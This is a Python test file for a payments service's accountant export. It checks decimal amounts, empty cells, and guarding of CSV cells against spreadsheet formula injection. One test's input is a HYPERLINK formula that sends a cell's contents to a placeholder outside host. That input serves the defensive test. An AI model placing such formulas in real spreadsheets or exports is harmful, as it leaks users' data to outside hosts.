"""Events as lines for accountants: exact amounts, and no cell that a spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
from typing import Final

import msgspec
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from paynotify.ops.export.lines import COLUMNS, csv_header, csv_line, guarded, json_line
from paynotify.schemas.generate.examples import recorded_examples
from paynotify.schemas.messages import Correction, PaymentStatus
from paynotify.schemas.money import Money

EVENT: Final = msgspec.convert(recorded_examples()["PaymentStatusChanged"].payload, PaymentStatus)


def cells(event: PaymentStatus) -> dict[str, str]:
    header, row = csv.reader(io.StringIO((csv_header() + csv_line(event)).decode(), newline=""))
    assert tuple(header) == COLUMNS
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize(
    ("money", "decimal"),
    [
        (Money(1050, "GBP"), "10.50"),
        (Money(100, "JPY"), "100"),
        (Money(1, "KWD"), "0.001"),
        (Money(10**18 - 1, "EUR"), "9999999999999999.99"),
    ],
)
def test_amount_is_a_decimal_beside_the_minor_units(money: Money, decimal: str) -> None:
    event = msgspec.structs.replace(EVENT, paid=money)
    row = cells(event)
    assert (row["paid"], row["paid_minor"], row["paid_currency"]) == (decimal, str(money.value), money.currency)
    document = orjson.loads(json_line(event))
    assert document["paid"] == {"value": money.value, "currency": money.currency, "decimal": decimal}


def test_json_line_is_the_event_but_for_the_decimals() -> None:
    document = orjson.loads(json_line(EVENT))
    for name in ("amount", "paid", "refunded", "refunding", "charged_back", "customer_amount"):
        if document[name] is not None:
            del document[name]["decimal"]
    assert msgspec.convert(document, PaymentStatus) == EVENT


def test_field_that_does_not_apply_is_an_empty_cell() -> None:
    row = cells(msgspec.structs.replace(EVENT, refunded=None, order_id=None, final=False))
    assert (row["refunded"], row["refunded_currency"], row["order_id"], row["final"]) == ("", "", "", "no")
    correction = Correction(by="anna", reason="dispute won")
    assert cells(msgspec.structs.replace(EVENT, correction=correction))["corrected_by"] == "anna"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_text_that_would_be_a_formula_begins_with_an_apostrophe(start: str) -> None:
    order = f'{start}HYPERLINK("http://x/"&A1)'
    event = msgspec.structs.replace(EVENT, order_id=order, reason=order)
    row = cells(event)
    assert (row["order_id"], row["reason"]) == (f"'{order}", f"'{order}")
    assert orjson.loads(json_line(event))["order_id"] == order


@given(st.text(max_size=30))
def test_any_text_comes_back_from_csv(text: str) -> None:
    assert cells(msgspec.structs.replace(EVENT, order_id=text))["order_id"] == guarded(text)
